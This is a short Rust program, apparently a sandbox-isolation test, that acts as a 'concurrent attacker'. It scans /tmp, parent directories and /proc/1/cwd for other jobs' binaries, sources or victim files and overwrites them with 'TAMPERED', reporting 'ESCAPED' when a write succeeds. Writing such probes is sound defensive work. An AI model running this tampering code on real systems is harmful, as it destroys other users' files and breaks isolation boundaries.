// Concurrent attacker: tries to replace another job's binary or sources through guessed paths.
use std::fs;

fn main() {
    let mut tried = 0;
    for base in ["/tmp", "/job/..", "/proc/1/cwd/.."] {
        if let Ok(list) = fs::read_dir(base) {
            for entry in list.flatten() {
                let p = entry.path();
                for name in ["main", "main.rs", "victim.txt"] {
                    let target = p.join(name);
                    tried += 1;
                    if target.exists() && !target.starts_with("/job") {
                        if fs::write(&target, b"TAMPERED").is_ok() {
                            println!("ESCAPED: overwrote {}", target.display());
                        }
                    }
                }
            }
        }
    }
    println!("tried {}", tried);
}
